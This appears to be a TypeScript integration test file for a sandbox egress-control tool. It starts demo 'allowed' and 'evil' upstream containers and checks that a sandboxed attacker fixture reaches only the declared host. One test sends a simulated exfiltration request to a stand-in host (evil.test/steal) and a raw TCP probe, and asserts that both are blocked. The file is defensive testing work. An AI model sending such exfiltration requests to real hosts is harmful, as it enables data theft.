import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse } from "yaml";
import { DEMO_ALLOWED_HOST, DEMO_EVIL_HOST, startDemoUpstreams, type DemoUpstreams } from "../../src/cli/demo-upstreams.js";
import { Sandbox } from "../../src/runtime/sandbox.js";
import { hangar } from "../cli/capture-io.js";
import { AttackerSession, DockerTestEnv, FIXTURES_IMAGE, realSidecarSourceExists, ROOT, waitFor } from "./support/docker-test-env.js";

/**
 * The demo's upstreams (images/demo-upstream, started through startDemoUpstreams): they
 * answer and count, the host reads their counts, and through a real sandbox the declared
 * one is reached by name while the undeclared one receives nothing.
 */

const REAL = realSidecarSourceExists();
let env: DockerTestEnv;
let upstreams: DemoUpstreams;

beforeAll(async () => {
  env = await DockerTestEnv.create();
  const egress = await env.egressNetwork();
  // This file's run id labels them, so env.cleanup() removes them whatever happens.
  upstreams = await startDemoUpstreams(env.engine, { network: egress.name, run: env.run });
  // The sandbox's sidecar asks this file's resolver (the demo's Docker aliases serve docker compose users).
  await env.registerUpstreams([upstreams.allowed, upstreams.evil]);
}, 600_000);

afterAll(async () => {
  await upstreams?.stop();
  await env?.cleanup();
  expect(await env.leftovers()).toEqual([]);
}, 120_000);

describe("startDemoUpstreams", () => {
  it("starts api.allowed.test and evil.test, hardened and labelled, each answering and counting what it gets", async () => {
    const info = await env.engine.inspectContainer(upstreams.allowed.containerId);
    expect(info).toMatchObject({ running: true, labels: { "hangar.managed": "true", "hangar.role": "demo", "hangar.run": env.run } });
    expect(upstreams.allowed.name).toBe(DEMO_ALLOWED_HOST);
    expect(upstreams.evil.name).toBe(DEMO_EVIL_HOST);

    const before = await upstreams.allowed.count();
    const res = await fetch(`http://${upstreams.allowed.ip}/hello.txt`, { signal: AbortSignal.timeout(5000) });
    expect(await res.text()).toBe(`hello from ${DEMO_ALLOWED_HOST}\n`);
    // Reading the count is not counted.
    expect(await upstreams.allowed.count()).toBe(before + 1);
    expect(await upstreams.allowed.count()).toBe(before + 1);
    expect((await upstreams.allowed.requests()).at(-1)).toMatchObject({ method: "GET", host: upstreams.allowed.ip, path: "/hello.txt" });
    expect(await upstreams.evil.count()).toBe(0);
  });

  describe.runIf(REAL)("behind a real sandbox", () => {
    it("lets a sandboxed server reach the declared upstream by name; the undeclared one receives nothing; hangar events shows both", async () => {
      const { policy, file } = await env.policy(`demo-${env.run}`, { egress: { mode: "enforcing", allow: [{ host: DEMO_ALLOWED_HOST, ports: [80] }] } });
      await using box = await new Sandbox({ engine: env.engine, logger: env.logger }).start({
        policy,
        policyFile: file,
        runtime: await env.runtimeConfig(),
        image: { id: FIXTURES_IMAGE, entrypoint: ["node", "/fixtures/attacker.mjs"] },
        run: env.run,
        stateDir: await env.stateRoot(),
      });
      const attacker = new AttackerSession(box.stdin, box.stdout);
      const allowedBefore = await upstreams.allowed.count();

      // Node's fetch ignores HTTP_PROXY: the transparent path carries it.
      expect(await attacker.send({ op: "http", url: `http://${DEMO_ALLOWED_HOST}/from-sandbox` })).toMatchObject({ ok: true, status: 200, body: `hello from ${DEMO_ALLOWED_HOST}\n` });
      expect(await attacker.send({ op: "http", url: `http://${DEMO_EVIL_HOST}/steal` })).toMatchObject({ ok: false });
      expect(await attacker.send({ op: "tcp", host: upstreams.evil.ip, port: 80 })).toMatchObject({ ok: false });
      expect(await upstreams.allowed.count()).toBe(allowedBefore + 1);
      expect((await upstreams.allowed.requests()).at(-1)).toMatchObject({ host: DEMO_ALLOWED_HOST, path: "/from-sandbox" });
      expect(await upstreams.evil.count()).toBe(0);

      const events = await waitFor(async () => {
        const r = await hangar(["events", box.server]);
        return r.stdout.includes(`CLOSE  egress ${DEMO_ALLOWED_HOST}:80`) ? r.stdout : undefined;
      });
      expect(events).toMatch(new RegExp(`^\\d\\d:\\d\\d:\\d\\d ALLOW {2}egress ${DEMO_ALLOWED_HOST.replace(/\./g, "\\.")}:80 http \\(transparent\\) declared-host -> ${upstreams.allowed.ip.replace(/\./g, "\\.")}$`, "m"));
      expect(events).toMatch(/^\d\d:\d\d:\d\d BLOCK {2}dns evil\.test A undeclared-host$/m);
    });
  });

  it("stops both, idempotently", async () => {
    const spare = await startDemoUpstreams(env.engine, { network: (await env.egressNetwork()).name, run: `${env.run}s` });
    await spare.stop();
    await spare.stop();
    expect(await env.engine.inspectContainer(spare.allowed.containerId)).toBeUndefined();
    expect(await env.engine.inspectContainer(spare.evil.containerId)).toBeUndefined();
  });
});

describe("docker-compose.yml", () => {
  it("runs the same two upstreams from images/demo-upstream on the external hangar-egress network", async () => {
    const compose = parse(await readFile(join(ROOT, "docker-compose.yml"), "utf8"), { merge: true }) as {
      services: Record<string, { build: { context: string; args: Record<string, string> }; networks: { egress: { aliases: string[] } }; labels: Record<string, string>; sysctls: Record<string, number> }>;
      networks: { egress: { name: string; external: boolean } };
    };
    expect(compose.networks.egress).toEqual({ name: "hangar-egress", external: true });
    expect(Object.keys(compose.services).sort()).toEqual(["allowed", "evil"]);
    expect(compose.services["allowed"]?.networks.egress.aliases).toEqual([DEMO_ALLOWED_HOST]);
    expect(compose.services["evil"]?.networks.egress.aliases).toEqual([DEMO_EVIL_HOST]);
    for (const service of Object.values(compose.services)) {
      expect(service.build.context).toBe("./images/demo-upstream");
      expect(service.build.args["BASE"]).toMatch(/hangar\/base:local/);
      expect(service.labels["hangar.managed"]).toBe("true");
      expect(service.sysctls["net.ipv4.ip_unprivileged_port_start"]).toBe(0);
    }
  });
});
